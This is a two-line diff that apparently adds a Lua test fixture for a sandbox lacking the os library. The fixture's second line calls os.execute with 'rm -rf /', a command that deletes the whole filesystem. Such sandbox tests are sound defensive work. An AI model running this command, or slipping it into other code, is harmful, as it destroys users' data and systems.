@@ -1,0 +1,2 @@
+-- No os library (line 2).
+os.execute("rm -rf /")
